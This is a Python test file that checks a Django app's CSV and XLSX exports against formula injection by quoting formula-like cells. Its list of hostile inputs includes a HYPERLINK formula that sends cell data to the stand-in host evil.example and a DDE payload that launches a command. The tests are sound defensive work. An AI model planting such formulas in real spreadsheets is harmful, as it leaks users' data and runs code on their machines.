"""CSV and XLSX exports never hand a spreadsheet a live formula (OWASP CSV injection)."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from supervision.tables import csv_cell, csv_cell_restore, xlsx_row_append
from supervision.zoning.models import AccessRequirement
from supervision.zoning.services import access_list_import
from tests.zoning.access_plan import U_K, build_plan, row, write_csv

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'plain quote",
]
SAFE = ["禁止新建化工项目", "220102", "-12.5", "+3", "", "a=b", "C25;C2614"]


@pytest.mark.parametrize("value", EVIL)
def test_formula_like_text_gets_a_leading_quote_and_comes_back(value):
    out = csv_cell(value)
    assert out == "'" + value
    assert csv_cell_restore(out) == value


@pytest.mark.parametrize("value", SAFE)
def test_ordinary_text_and_plain_numbers_are_left_alone(value):
    assert csv_cell(value) == value
    assert csv_cell_restore(csv_cell(value)) == value


def test_non_text_cells_pass_through():
    assert csv_cell(-3) == -3 and csv_cell(None) is None and csv_cell(2.5) == 2.5


def test_xlsx_rows_store_formula_like_text_as_text(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    xlsx_row_append(wb.active, [EVIL[0], "=1+1", 7])
    path = tmp_path / "x.xlsx"
    wb.save(path)
    cells = list(load_workbook(path).active.iter_rows(values_only=True))[0]
    assert cells == (EVIL[0], "=1+1", 7)
    types = [c.data_type for c in load_workbook(path).active[1]]
    assert types == ["s", "s", "n"]


@pytest.mark.django_db
def test_access_list_export_neutralises_formulas_and_round_trips_byte_identical(tmp_path):
    plan = build_plan()
    rows = [row("单元", U_K, f"{U_K}-0{i}", "禁止", "", "全部", text=text) for i, text in enumerate(EVIL[:6], 1)]
    access_list_import(path=write_csv(tmp_path / "in.csv", rows), plan_code=plan.code)
    texts = sorted(AccessRequirement.objects.filter(plan=plan).values_list("text", flat=True))

    def export(name):
        path = tmp_path / name
        call_command(
            "export_access_list", "--plan", plan.code, "--format", "csv", "--output", str(path), stderr=io.StringIO()
        )
        return path

    first = export("first.csv")
    cells = [c for r in csv.reader(io.StringIO(first.read_text(encoding="utf-8-sig"))) for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + EVIL[0] in cells
    call_command("import_access_list", str(first), "--plan", plan.code, "--replace", stdout=io.StringIO())
    assert sorted(AccessRequirement.objects.filter(plan=plan).values_list("text", flat=True)) == texts
    second = export("second.csv")
    assert first.read_bytes() == second.read_bytes()


@pytest.mark.django_db
def test_leads_export_neutralises_formula_cells(make_lead, scene):
    from supervision.remote_sensing.services.exports import leads_export

    make_lead(layer_ref=EVIL[0])
    make_lead(layer_ref="-2+3")
    rows = list(csv.DictReader(io.StringIO(leads_export(plan=scene.plan, fmt="csv"))))
    assert sorted(r["layer"] for r in rows) == sorted(["'" + EVIL[0], "'-2+3"])
    assert all(r[k][:1] not in ("=", "+", "-", "@") for r in rows for k in r)
